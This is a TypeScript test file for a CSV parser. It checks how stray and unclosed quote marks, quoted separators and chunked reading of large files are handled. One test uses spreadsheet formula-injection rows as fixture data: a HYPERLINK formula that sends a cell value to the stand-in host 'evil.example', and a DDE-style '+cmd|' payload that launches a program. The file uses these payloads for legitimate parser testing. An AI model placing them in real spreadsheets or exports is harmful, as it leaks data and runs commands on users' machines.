import { describe, expect, test } from 'vitest';
import { readTable, sniffCsv } from '../../src/csv';
import { mendOpenQuote } from '../../src/csv/stray-quotes';
import { inChunks } from './helpers';

const enc = (s: string) => new TextEncoder().encode(s);
const HEADER = 'Invoice no,Customer,Invoice date,Due date,Amount,Currency';

describe('a quote mark inside a value that is not quoted', () => {
  test('a value that starts with a quoted word reads as written, and no line after it is lost', () => {
    // The tester's quote_then_text.csv.
    const bytes = enc(
      [
        HEADER,
        'R-1,"Acme" Ltd,2026-01-10,2026-02-09,10.00,GBP',
        'R-2,Bob Ltd,2026-01-10,2026-02-09,20.00,GBP',
        'R-3,Carl Ltd,2026-01-10,2026-02-09,30.00,GBP',
        'R-4,"Dan Ltd",2026-01-10,2026-02-09,40.00,GBP',
        'R-5,Eve Ltd,2026-01-10,2026-02-09,50.00,GBP',
        '',
      ].join('\n'),
    );
    const t = readTable(bytes);
    expect(t.columns).toEqual(['Invoice no', 'Customer', 'Invoice date', 'Due date', 'Amount', 'Currency']);
    expect(t.rows).toEqual([
      ['R-1', '"Acme" Ltd', '2026-01-10', '2026-02-09', '10.00', 'GBP'],
      ['R-2', 'Bob Ltd', '2026-01-10', '2026-02-09', '20.00', 'GBP'],
      ['R-3', 'Carl Ltd', '2026-01-10', '2026-02-09', '30.00', 'GBP'],
      ['R-4', 'Dan Ltd', '2026-01-10', '2026-02-09', '40.00', 'GBP'],
      ['R-5', 'Eve Ltd', '2026-01-10', '2026-02-09', '50.00', 'GBP'],
    ]);
    expect(t.lines).toEqual([2, 3, 4, 5, 6]);
    expect(t.errors).toEqual([]);
  });

  test('a formula with quotes in the middle of a value takes no line after it', () => {
    // The first rows of the tester's formula.csv.
    const bytes = enc(
      [
        HEADER,
        '=HYPERLINK("http://evil.example/?x="&A1,"click"),Evil Co,2026-01-10,2026-02-09,10.00,GBP',
        "F-2,+cmd|' /C calc'!A0,2026-01-10,2026-02-09,10.00,GBP",
        'F-5,"\t=1+1",2026-01-10,2026-02-09,10.00,GBP',
        'F-6,"=1+1",2026-01-10,2026-02-09,10.00,GBP',
        '',
      ].join('\n'),
    );
    const t = readTable(bytes);
    expect(t.rows.map((r) => r[0])).toEqual(['=HYPERLINK("http://evil.example/?x="&A1', 'F-2', 'F-5', 'F-6']);
    expect(t.rows[0]!.slice(2)).toEqual(['2026-01-10', '2026-02-09', '10.00', 'GBP']);
    expect(t.rows[3]).toEqual(['F-6', '=1+1', '2026-01-10', '2026-02-09', '10.00', 'GBP']);
    expect(t.lines).toEqual([2, 3, 4, 5]);
  });

  test('a quoted part holding the separator stays in one value with the text after it', () => {
    const bytes = enc('Invoice no,Customer,Amount\nA-1,"Smith, J" & Sons,10.00\nA-2,Bob,5.00\n');
    const t = readTable(bytes);
    expect(t.rows).toEqual([
      ['A-1', '"Smith, J" & Sons', '10.00'],
      ['A-2', 'Bob', '5.00'],
    ]);
    expect(t.errors).toEqual([]);
  });

  test('a quote whose closing mark is on a later line is a literal character: each line is its own row', () => {
    const bytes = enc('Invoice no,Customer,Amount\nA-1,"Acme,10.00\nA-2,Bob" Ltd,5.00\nA-3,Carl,7.00\n');
    const t = readTable(bytes);
    expect(t.rows).toEqual([
      ['A-1', '"Acme', '10.00'],
      ['A-2', 'Bob" Ltd', '5.00'],
      ['A-3', 'Carl', '7.00'],
    ]);
    expect(t.lines).toEqual([2, 3, 4]);
  });

  test('well-formed quoted values are read as before: doubled quotes, separators and line breaks inside', () => {
    const bytes = enc('Invoice no,Note,Amount\nA-1,"say ""hi"", then\ngo",10.00\nA-2,  "spaced"  ,5.00\n');
    const t = readTable(bytes);
    expect(t.rows).toEqual([
      ['A-1', 'say "hi", then\ngo', '10.00'],
      ['A-2', '"spaced"', '5.00'],
    ]);
    expect(t.lines).toEqual([2, 4]);
  });

  test('read in pieces, a large file with stray quotes gives every line as a row, as read whole', () => {
    const out = [HEADER];
    for (let i = 1; i <= 3000; i++) {
      const customer = i % 250 === 0 ? `"Acme ${i}" Ltd` : i % 333 === 0 ? `"Open ${i}` : `Customer ${i}`;
      out.push(`R-${i},${customer},2026-01-10,2026-02-09,${i}.00,GBP`);
    }
    const bytes = enc(out.join('\n') + '\n');
    const format = sniffCsv(bytes);
    const whole = readTable(bytes, format);
    expect(whole.rows).toHaveLength(3000);
    expect(whole.rows[249]![1]).toBe('"Acme 250" Ltd');
    expect(whole.rows[332]![1]).toBe('"Open 333');
    expect(whole.lines.at(-1)).toBe(3001);
    expect(whole.errors).toEqual([]);
    const { rows, lines } = inChunks(bytes, format, 500, {
      head: 8_192,
      piece: 16_384,
      first: 1_024,
      text: 2_048,
    });
    expect(rows).toEqual(whole.rows);
    expect(lines).toEqual(whole.lines);
  });

  test('a quote that nothing closes, found reading a row past the limit, is read as a literal one', () => {
    const text = 'A-0,x\nR-1,"Acme Ltd,2026-01-10,10.00\nR-2,"Bob" Ltd,2026-01-11,20.00\n';
    const from = text.indexOf('R-1');
    // Its field is quoted as written; every later line is as it was (the one after keeps its own mark).
    expect(mendOpenQuote(text, from, ',', '"', '\n')).toBe(
      'R-1,"""Acme Ltd",2026-01-10,10.00\nR-2,"Bob" Ltd,2026-01-11,20.00\n',
    );
    // A quoted field that does close (however far on), or a row with no quote: none to mend.
    expect(mendOpenQuote('R-1,"Acme\nLtd",5\n', 0, ',', '"', '\n')).toBeNull();
    expect(mendOpenQuote('R-1,"A ""B"" C" ,5', 0, ',', '"', '\n')).toBeNull();
    expect(mendOpenQuote('R-1,Acme,5', 0, ',', '"', '\n')).toBeNull();
  });
});
